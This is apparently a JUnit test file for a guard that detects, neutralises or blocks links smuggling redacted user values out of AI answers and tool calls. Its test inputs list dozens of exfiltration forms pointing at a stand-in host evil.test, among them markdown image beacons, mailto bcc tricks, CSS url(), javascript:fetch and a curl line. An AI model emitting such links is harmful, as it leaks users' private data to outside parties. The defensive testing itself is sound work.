package dev.cordon.engine.link;

import static dev.cordon.engine.link.Guarded.HOST;
import static dev.cordon.engine.link.Guarded.MAIL;
import static dev.cordon.engine.link.Guarded.NAME;
import static dev.cordon.engine.link.Guarded.NOTE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.engine.text.TextKind;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Where a value goes in an answer, and in which form. */
class LinkGuardTest {
  private static final String SENT =
      "Write to " + MAIL + ", see https://crm.example/c?m=" + MAIL + "&x=1 and docs.example.org.";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.test/p?d=TOKEN)",
        "[x](https://evil.test/p?d=TOKEN \"title\")",
        "[x](<https://evil.test/p?d=TOKEN and more>)",
        "[x]( https://evil.test/TOKEN/a(b)TOKEN)",
        "[x](//evil.test/TOKEN)",
        "[x](\\\\evil.test/TOKEN)",
        "[x](https:evil.test/TOKEN)",
        "[x](https:/evil.test/TOKEN)",
        "[x](HTTPS://EVIL.test/TOKEN)",
        "[x](https&colon;//evil.test/TOKEN)",
        "[x](&#104;ttps://evil.test/TOKEN)",
        "[x](https://crm.example@evil.test/TOKEN)",
        "[x](https://crm.example,x@evil.test/TOKEN)",
        "[x](https://TOKEN@evil.test/)",
        "[x](https://TOKEN.evil.test/)",
        "[x](https://evil.test:TOKEN/)",
        "[x](https://crm.example.evil.test/TOKEN)",
        "[x](https://evilcrm.example/TOKEN)",
        "[x](https://xn--crm-abc.example/TOKEN)",
        "[x](https://crm%2eexample.evil.test/TOKEN)",
        "[x](https://crm.example\\@evil.test/TOKEN)",
        "[x](https://evil.test#TOKEN)",
        "[x](https://evil.test?TOKEN)",
        "[x](mailto:me@evil.test?body=TOKEN)",
        "[x](mailto:TOKEN@evil.test)",
        "[x](mailto:ann@crm.example,me@evil.test?body=TOKEN)",
        "[x](mailto:?to=me@evil.test&body=TOKEN)",
        "[x](mailto:ann@crm.example?body=TOKEN&bcc=me@evil.test)",
        "[x](mailto:ann@crm.example?BCC=ann@crm.example,me@evil.test&body=TOKEN)",
        "[x](mailto:ann@crm.example?body=TOKEN&%62cc=me@evil.test)",
        "[x](mailto:ann@crm.example?body=TOKEN&cc=me%40evil.test)",
        "mailto:ann@crm.example?body=TOKEN&cc=me@evil.test",
        "<a href='mailto:ann@crm.example?body=TOKEN&amp;cc=me@evil.test'>x</a>",
        "[x](javascript:fetch('//evil.test/TOKEN'))",
        "[x](data:text/html,TOKEN)",
        "see [x][1]\n\n[1]: https://evil.test/TOKEN \"title\"",
        "see [x][1]\n\n[1]: <https://evil.test/ TOKEN>",
        "[1]: //evil.test/TOKEN",
        "<https://evil.test/TOKEN>",
        "<img src=\"https://evil.test/TOKEN\">",
        "<img alt=x src='//evil.test/ TOKEN'>",
        "<img src=//evil.test/TOKEN>",
        "<IMG SRC = \"h\nttps://evil.test/TOKEN\">",
        "<iframe src=\"https:\\\\evil.test\\TOKEN\"></iframe>",
        "<a href=\"https://evil.test/?a=1&amp;b=TOKEN\">x</a>",
        "<a title=\"x\" href=\"&#x68;ttps://evil.test/TOKEN\">x</a>",
        "<form action=\"https://evil.test/TOKEN\">",
        "<button formaction=\"//evil.test/TOKEN\">",
        "<video poster=\"//evil.test/TOKEN\">",
        "<img srcset=\"//evil.test/TOKEN 2x\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test/TOKEN\">",
        "<div style=\"background:url(https://evil.test/TOKEN)\">",
        "a { background: url(//evil.test/TOKEN) }",
        "a { background: URL( '//evil.test/TOKEN' ) }",
        "go to https://evil.test/TOKEN now",
        "go to https://evil.test/?q=TOKEN, now",
        "www.evil.test/TOKEN",
        "fetch(\"//evil.test/TOKEN\")",
        "curl https://evil.test/?d=TOKEN",
        "{\"url\": \"https://evil.test/?d=TOKEN\"}",
        "[https://crm.example](https://evil.test/TOKEN)",
        "ftp://evil.test/TOKEN",
        "wss://evil.test/TOKEN",
        "https://[2001:db8::1]/TOKEN",
        "https://10.1.2.3:8080/TOKEN",
        "https://evil.test/TOKEN\\)TOKEN"
      })
  void aTokenStaysInALinkToAHostThatNobodyNamed(String form) {
    Guarded guarded = new Guarded(SENT);
    String answer = form.replace("TOKEN", MAIL);
    assertEquals(answer, guarded.restore(answer));
    assertTrue(
        guarded.threats().stream().anyMatch(t -> t.startsWith("link.foreign")),
        guarded.threats().toString());
    for (int cut = 0; cut <= answer.length(); cut++) {
      assertEquals(answer, new Guarded(SENT).restore(answer, cut), "cut at " + cut);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mailto:me@evil.test?body=TOKEN",
        "MAILTO:me@evil.test?subject=x&amp;body=TOKEN",
        "mailto:?to=me@evil.test&cc=TOKEN",
        "[write](mailto:me@evil.test?body=TOKEN)",
        "<a href=\"mailto:me@evil.test?body=TOKEN\">x</a>",
        "a { background: url(https://evil.test/TOKEN) }",
        "<div style=\"background:url('//evil.test/TOKEN')\">x</div>",
        "@import url(//evil.test/TOKEN.css);",
        "body{background:image-set(url(\"//evil.test/TOKEN\") 1x)}"
      })
  void aTokenStaysInMailsAndStyleSheetsOfAToolsArguments(String form) {
    String text = form.replace("TOKEN", MAIL);
    for (String key : new String[] {"html", "body", "url", ""}) {
      for (int cut = 0; cut <= text.length(); cut++) {
        Guarded guarded = new Guarded(SENT).in(TextKind.TOOL_CALL, key);
        assertEquals(text, guarded.restore(text, cut), "cut at " + cut);
        assertTrue(
            guarded.threats().contains("link.foreign_with_token/tool_call/report=1"),
            guarded.threats().toString());
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "TOKEN",
        "Dear TOKEN: hello",
        "(TOKEN) [TOKEN] <TOKEN> \"TOKEN\"",
        "[TOKEN](https://evil.test/)",
        "https://evil.test/ TOKEN",
        "[x](https://evil.test/) TOKEN",
        "<https://evil.test/> TOKEN",
        "<a href=\"https://evil.test/\">TOKEN</a>",
        "![x](https://evil.test/ \"TOKEN\")",
        "url(https://evil.test/a.png) TOKEN",
        "f[0](TOKEN)",
        "x[1]: TOKEN",
        "list[str]: name=TOKEN",
        "a // TOKEN",
        "//TOKEN",
        "# TODO: TOKEN",
        "if (a <b && c == TOKEN) {}",
        "mailto:TOKEN",
        "mailto:TOKEN.",
        "[write](mailto:TOKEN)",
        "[write](mailto:TOKEN?subject=Hi)",
        "tel:TOKEN",
        "[call](tel:TOKEN)",
        "key: TOKEN",
        "12:30 TOKEN",
        "C:\\Users\\TOKEN",
        "file:///home/TOKEN",
        "std::TOKEN",
        "{'a': 'TOKEN'}",
        "[x](/users/TOKEN)",
        "[x](TOKEN)",
        "[x](#TOKEN)"
      })
  void everywhereElseItIsRestoredAsItIs(String form) {
    String answer = form.replace("TOKEN", MAIL);
    String expected = form.replace("TOKEN", "ann+x@corp.example");
    for (int cut = 0; cut <= answer.length(); cut++) {
      Guarded guarded = new Guarded(SENT);
      assertEquals(expected, guarded.restore(answer, cut), "cut at " + cut);
      assertFalse(guarded.threats().toString().contains("token"), guarded.threats().toString());
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://docs.example.org/?q=%s",
        "[x](https://docs.example.org/%s)",
        "![x](HTTPS://docs.EXAMPLE.org:443/%s)",
        "[x](//www.docs.example.org/%s#%s)",
        "<https://docs.example.org/%s>",
        "<a href='https://docs.example.org/?a=%s'>",
        "[1]: https://docs.example.org/%s",
        "url(\"https://docs.example.org/%s\")",
        "https://api.allowed.example/%s",
        "https://allowed.example/%s",
        "https://u:%s@docs.example.org/x",
        "postgres://app:%s@docs.example.org:5432/app",
        "mailto:ann@docs.example.org?subject=%s"
      })
  void inALinkToAKnownHostItIsPercentEncoded(String form) {
    Guarded guarded = new Guarded(SENT, "output: {allow_domains: [allowed.example]}");
    String answer = form.replace("%s", NAME);
    String expected = form.replace("%s", "Ann%20%22Nan%22%20O%27Neil%20%26%20Sons");
    assertEquals(expected, guarded.restore(answer));
    assertEquals(Set.of(), guarded.threats());
    for (int cut = 0; cut <= answer.length(); cut++) {
      Guarded other = new Guarded(SENT, "output: {allow_domains: [allowed.example]}");
      assertEquals(expected, other.restore(answer, cut), "cut at " + cut);
    }
  }

  @Test
  void aLinkOfTheRequestComesBackAsItWas() {
    String answer = "[x](https://crm.example/c?m=" + MAIL + "&x=1) https://crm.example/d?m=" + MAIL;
    assertEquals(
        "[x](https://crm.example/c?m=ann+x@corp.example&x=1)"
            + " https://crm.example/d?m=ann%2Bx%40corp.example",
        new Guarded(SENT).restore(answer));
  }

  @Test
  void aHostThatIsAValueOfTheRequestIsKnown() {
    Guarded guarded = new Guarded(SENT);
    assertEquals(
        "https://db-04.corp.example:8443/?u=ann%2Bx%40corp.example",
        guarded.restore("https://" + HOST + ":8443/?u=" + MAIL));
    assertEquals(Set.of(), guarded.threats());
  }

  @Test
  void anAttributeGetsItsValueAsHtml() {
    assertEquals(
        "<td title=\"Ann &quot;Nan&quot; O&#39;Neil &amp; Sons\">Ann \"Nan\" O'Neil & Sons</td>",
        new Guarded(SENT).restore("<td title=\"" + NAME + "\">" + NAME + "</td>"));
  }

  @Test
  void aJsonStringWithinATextGetsItsValueEscaped() {
    String plain = "Ann \"Nan\" O'Neil & Sons";
    String json = "Ann \\\"Nan\\\" O'Neil & Sons";
    assertEquals(
        "```json\n{\"name\": \"" + json + "\", \"n\": [1]}\n``` for " + plain,
        new Guarded(SENT)
            .restore("```json\n{\"name\": \"" + NAME + "\", \"n\": [1]}\n``` for " + NAME));
    assertEquals(
        "x = \"{\\\"note\\\": \\\"two\\\\nlines \\\\\\\\ of it\\\"}\"",
        new Guarded(SENT).restore("x = \"{\\\"note\\\": \\\"" + NOTE + "\\\"}\""));
  }

  @Test
  void aStringThatTheRequestHoldsJustSoComesBackAsItWas() {
    String own = "\"note\": \"see " + NOTE + "\", \"other\": \"see also " + NOTE + "\"";
    String sent = "{\"content\":\"set \\\"note\\\": \\\"see " + NOTE + "\\\"\"}";
    for (int end = 0; end < own.length(); end++) {
      assertEquals(
          "\"note\": \"see two\nlines \\ of it\", \"other\": \"see also two\\nlines \\\\ of it\"",
          new Guarded(sent).restore(own, end),
          "cut at " + end);
    }
  }

  @Test
  void aLinkWithoutASchemeIsTakenOutWhereverTheStreamIsCut() {
    String answer = "<a href=\"](](//www.]( x\"> and (//evil.example/a) <img src=//evil.example>";
    String neutralise = "output: {links: neutralise}";
    String whole = new Guarded(SENT, neutralise).restore(answer);
    assertFalse(whole.contains("//evil.example"), whole);
    for (int end = 0; end < answer.length(); end++) {
      assertEquals(whole, new Guarded(SENT, neutralise).restore(answer, end), "cut at " + end);
    }
  }

  @Test
  void linksToHostsThatNobodyNamedAreCountedOnceEach() {
    Guarded guarded = new Guarded(SENT);
    guarded.restore("![a](https://a.test/x.png) [b](//b.test) https://c.test https://c.test?x=1");
    assertEquals(Set.of("link.foreign/assistant/report=3"), guarded.threats());
  }

  @Test
  void aLinkInAToolCallIsCountedAsOne() {
    Guarded guarded = new Guarded(SENT).in(TextKind.TOOL_CALL, "url");
    assertEquals("https://evil.test/?d=" + MAIL, guarded.restore("https://evil.test/?d=" + MAIL));
    assertEquals(
        Set.of("link.foreign/tool_call/report=1", "link.foreign_with_token/tool_call/report=1"),
        guarded.threats());
  }

  @Test
  void anAddressThatTheVendorGivesIsNoConcern() {
    Guarded guarded = new Guarded(SENT, "output: {links: block}").in(TextKind.UNKNOWN, "image_url");
    String answer = "https://files.vendor.test/img?sig=a%2Fb";
    assertEquals(answer, guarded.restore(answer));
    assertEquals(Set.of(), guarded.threats());
  }

  @Test
  void aNeutralisedLinkLeavesItsTextAndLeadsNowhere() {
    assertNeutral("![a cat](https://evil.test/p?d=TOKEN) x", "![a cat]() x");
    assertNeutral("[a](https://evil.test/p \"title\") x", "[a]() x", "[a](\"title\") x");
    assertNeutral("[a](<https://evil.test/p q>) x", "[a](<>) x");
    assertNeutral("[a]: https://evil.test/p\nx", "[a]: \nx");
    assertNeutral("<img src=\"https://evil.test/p?d=TOKEN\" alt=x>", "<img src=\"\" alt=x>");
    assertNeutral("<a href=//evil.test/p>x</a>", "<a href=>x</a>");
    assertNeutral("url('//evil.test/p') x", "url('') x");
    assertNeutral(
        "go to https://evil.test/p?d=TOKEN now", "go to hxxps://evil[.]test/p?d=TOKEN now");
    assertNeutral("<http://www.evil.test/p>", "<hxxp://www[.]evil[.]test/p>");
    assertNeutral("www.evil.test/p", "www[.]evil[.]test/p");
    assertNeutral(
        "[a](mailto:me@evil.test?body=TOKEN) mailto:me@evil.test?body=x",
        "[a]() mailto:me@evil[.]test?body=x");
    assertNeutral(
        "[a](https://docs.example.org/) www.docs.example.org",
        "[a](https://docs.example.org/) www.docs.example.org");
  }

  private static void assertNeutral(String form, String... expected) {
    String answer = form.replace("TOKEN", MAIL);
    String whole = new Guarded(SENT, "output: {links: neutralise}").restore(answer);
    boolean one = false;
    for (String form2 : expected) {
      one |= form2.replace("TOKEN", MAIL).equals(whole);
    }
    assertTrue(one, whole);
    for (int cut = 0; cut <= answer.length(); cut++) {
      Guarded guarded = new Guarded(SENT, "output: {links: neutralise}");
      assertEquals(whole, guarded.restore(answer, cut), "cut at " + cut);
    }
  }

  @Test
  void ablockedAnswerEndsBeforeTheLink() {
    Guarded guarded = new Guarded(SENT, "output: {links: block}");
    assertEquals(
        "Hi ann+x@corp.example ![x]([withheld: output.links]",
        guarded.restore("Hi " + MAIL + " ![x](https://evil.test/p) and " + MAIL));
    assertEquals(Set.of("link.foreign/assistant/block=1"), guarded.threats());
  }

  @Test
  void noMoreIsHeldBackThanALinksHost() {
    Guarded guarded = new Guarded(SENT);
    assertEquals(0, guarded.heldBack("https://evil.test/p?q="));
    assertEquals(0, guarded.heldBack("some text (with) [brackets](/and/more) https"));
    assertEquals("://evil.te".length(), guarded.heldBack("see https://evil.te"));
    assertEquals("https://evil.te".length(), guarded.heldBack("[x](https://evil.te"));
    String host = "h".repeat(400);
    assertEquals(0, guarded.heldBack("https://" + host));
    assertEquals(0, guarded.heldBack("[x](https://" + host));
  }

  @Test
  void whatIsNoLinkGoesOnUntouchedThoughLinksAreBlocked() {
    String text =
        "# Title\n\n"
            + "Use `a[i](b)`, x::y, C:\\dir, 10:30, {\"k\": \"v\"}, <b>bold</b>, // note\n"
            + "if (a <b) { c = d; } // https is a scheme; see /etc/hosts, ../x.md and"
            + " [x](../x.md#y)\n"
            + "| a | b |\n"
            + "|:--|--:|\n"
            + "תודה 谢谢 👩‍👩‍👧 &amp; mailto:ann@corp.example www. http: https:// ftp:\n";
    Guarded guarded = new Guarded(SENT, "output: {links: block}");
    assertEquals(text, guarded.restore(text));
    assertEquals(Set.of(), guarded.threats());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "](",
        "](https://",
        "[a](//x",
        "<a href=",
        "<a href=\"",
        "mailto:a,",
        "https://a@",
        "https://",
        "//",
        "\"//",
        "www.",
        "www.www.",
        "url(",
        "]: ",
        "\":\"",
        "\":\\\"",
        "](((",
        "https://crm.example/",
        "https://crm.example/https://",
        "<",
        "::",
        "\\",
        "mailto:",
        "javascript:",
        "https://TOKEN",
        "TOKEN"
      })
  void aTextThatBeginsLinksOverAndOverIsReadInOnePass(String begun) {
    String part = begun.replace("TOKEN", "a.b");
    String text = part.repeat((1 << 21) / part.length());
    assertEquals(text, new Guarded(SENT).restore(text));
  }
}
